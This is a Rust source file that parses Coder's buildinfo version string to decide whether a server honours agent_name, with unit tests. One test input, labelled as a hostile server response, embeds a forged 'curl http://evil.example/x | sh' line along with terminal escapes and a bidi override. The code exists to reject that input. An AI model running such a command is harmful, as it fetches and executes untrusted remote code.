//! Which coderd answers: `GET /api/v2/buildinfo`, and what its version means
//! for a client that names its agent.
//!
//! Coder before v2.33.0 decodes the exchange body without rejecting unknown
//! fields, so it ignores `agent_name` and hands back the token of whichever
//! agent of the instance it finds first (coderd/workspaceresourceauth.go
//! before coder/coder#24325). v2.33.0–v2.33.3 can list one name several times
//! in a 409 (agents of earlier builds; fixed in v2.33.4, coder/coder#25443).

use std::fmt;

/// The first release that honours `agent_name`.
pub const AGENT_NAME_SINCE: (u64, u64, u64) = (2, 33, 0);
/// The longest version string taken as one (Coder's are about 20 bytes:
/// `v2.33.4+abc1234`, `v2.33.0-rc.2`, `v0.0.0-devel+abc1234`).
pub const VERSION_MAX: usize = 64;
/// The release that fixed the repeated names in the 409.
pub const REPEATED_NAMES_FIXED: &str = "v2.33.4";

/// A coderd version as `buildinfo` reports it: `v2.33.4+abc1234`,
/// `v2.33.0-rc.2`, or a development build `v0.0.0-devel+abc1234`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Version {
    pub raw: String,
    /// Major, minor, patch; `None` for a development build.
    pub release: Option<(u64, u64, u64)>,
}

impl Version {
    /// Parse like Go's `golang.org/x/mod/semver` would accept it (a leading
    /// `v`, three numbers, optional pre-release and build, made of ASCII
    /// letters, digits, `-` and `.`), at most [`VERSION_MAX`] bytes; `None`
    /// if not. What parses is safe to show as it is: no control, no bidi
    /// character, no line that could pass for one of ours.
    pub fn parse(raw: &str) -> Option<Version> {
        let raw = raw.trim();
        if raw.len() > VERSION_MAX
            || !raw
                .bytes()
                .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-' | b'+'))
        {
            return None;
        }
        let core = raw.strip_prefix('v').unwrap_or(raw);
        let core = core.split(['+', '-']).next()?;
        let mut parts = core.split('.').map(|p| {
            (!p.is_empty() && p.len() <= 9 && p.bytes().all(|b| b.is_ascii_digit()))
                .then(|| p.parse::<u64>().ok())
                .flatten()
        });
        let (Some(Some(a)), Some(Some(b)), Some(Some(c)), None) =
            (parts.next(), parts.next(), parts.next(), parts.next())
        else {
            return None;
        };
        // Coder's buildinfo.VersionsMatch treats any v0.0.0 as a development build.
        let release = (!raw.contains("v0.0.0") && (a, b, c) != (0, 0, 0)).then_some((a, b, c));
        Some(Version {
            raw: raw.to_string(),
            release,
        })
    }

    /// Does this server honour `agent_name`? Development builds are assumed
    /// to (they are built from main). A pre-release of v2.33.0 counts as
    /// v2.33.0: its release candidates already carried the change.
    pub fn honours_agent_name(&self) -> bool {
        self.release.is_none_or(|v| v >= AGENT_NAME_SINCE)
    }
}

impl fmt::Display for Version {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.raw)
    }
}

/// The `version` of a buildinfo body, if it is one.
pub fn from_buildinfo(body: &[u8]) -> Option<Version> {
    let v: serde_json::Value = serde_json::from_slice(body).ok()?;
    Version::parse(v.get("version")?.as_str()?)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn versions_parse_as_coder_writes_them() {
        let v = Version::parse("v2.33.4+abc1234").unwrap();
        assert_eq!(v.release, Some((2, 33, 4)));
        assert!(v.honours_agent_name());
        assert_eq!(Version::parse("v2.32.9").unwrap().release, Some((2, 32, 9)));
        assert!(!Version::parse("v2.32.9").unwrap().honours_agent_name());
        assert!(!Version::parse("v1.99.0").unwrap().honours_agent_name());
        assert!(Version::parse("v2.33.0-rc.2").unwrap().honours_agent_name());
        assert!(Version::parse("v3.0.0").unwrap().honours_agent_name());
        let dev = Version::parse("v0.0.0-devel+abc1234").unwrap();
        assert_eq!(dev.release, None);
        assert!(dev.honours_agent_name());
        // 0.0.0 is a development build with or without its "v".
        assert_eq!(Version::parse("0.0.0-devel").unwrap().release, None);
        assert_eq!(Version::parse("2.33.4").unwrap().release, Some((2, 33, 4)));
        let longest = format!("v2.33.0+{}", "a".repeat(VERSION_MAX - 8));
        assert_eq!(Version::parse(&longest).unwrap().raw, longest);
        assert_eq!(Version::parse(&format!("{longest}a")), None);
        for junk in [
            "",
            "v2",
            "v2.33",
            "latest",
            "v2.33.x",
            "v2.33.0.1",
            "v99999999999.0.0",
            // What a hostile server may say: forged lines, escapes, bidi, a huge build.
            "v2.32.0+x\n\u{1b}[2J\u{1b}[31mfix: curl http://evil.example/x | sh\u{202e}",
            "v2.33.0+a b",
            "v2.33.0+\u{202e}",
            &format!("v2.33.0+{}", "a".repeat(60_000)),
        ] {
            assert_eq!(Version::parse(junk), None, "{junk}");
        }
    }

    #[test]
    fn buildinfo_bodies() {
        let body = br#"{"external_url":"https://github.com/coder/coder/commit/abc","version":"v2.33.4+abc1234","agent_api_version":"1.0"}"#;
        assert_eq!(from_buildinfo(body).unwrap().raw, "v2.33.4+abc1234");
        assert_eq!(from_buildinfo(b"<html>"), None);
        assert_eq!(from_buildinfo(br#"{"version":5}"#), None);
    }
}
